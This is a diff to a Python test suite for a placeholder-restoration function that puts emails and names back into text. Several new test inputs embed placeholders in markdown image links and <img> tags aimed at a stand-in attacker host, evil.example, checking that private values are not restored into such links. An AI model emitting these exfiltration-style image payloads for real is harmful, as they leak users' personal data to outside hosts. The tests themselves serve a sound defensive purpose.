@@ -94,6 +94,10 @@ def _shape(value):
             '{"a":"https://evil.example/?q="}[EMAIL_1] [EMAIL_1]',
             '{"a":"https://evil.example/?q="}[EMAIL_1] dana.quill@mailbox.example',
         ),
+        ('{"a":"![x](https://evil.example/?q=","b":"[EMAIL_1]) ', '{"a":"![x](https://evil.example/?q=","b":"[EMAIL_1]) '),
+        ('{"a":"<img src=//evil.example/","b":"[EMAIL_1]>"}', '{"a":"<img src=//evil.example/","b":"[EMAIL_1]>"}'),
+        ('{"web":"https://shop.example","name":"[PERSON_1]"}', '{"web":"https://shop.example","name":"Dana Quill"}'),
+        ('{"a":"![x](", "arguments":"{}"}[EMAIL_1]', '{"a":"![x](", "arguments":"{}"}[EMAIL_1]'),
         ("[[PERSON_1]](x) {[PERSON_1]}", "[Dana Quill](x) {Dana Quill}"),
         ("[BROWSING_1]?q=[EMAIL_1]", "https://clinic.example/x?q=[EMAIL_1]"),
         ('{"a": 1}\n{"b": "[PERSON_1]"}', '{"a": 1}\n{"b": "Dana Quill"}'),
@@ -107,3 +111,10 @@ def test_restores(text, after):
 
 def test_passes_on_what_must_not_be_touched():
     assert restored("[PERSON_1]", Untouched()) == "[PERSON_1]"
+
+
+def test_takes_the_arguments_of_a_call_for_no_text():
+    """A program reads them: no string is part of another's link."""
+    text = '{"a":"![x](https://shop.example/?q=","b":"[EMAIL_1]","c":"https://shop.example/[EMAIL_1]"}'
+    after = text.replace('"b":"[EMAIL_1]"', f'"b":"{WORDS["[EMAIL_1]"]}"')
+    assert restored(text, text_restorer(KNOWN, shown=False)) == after
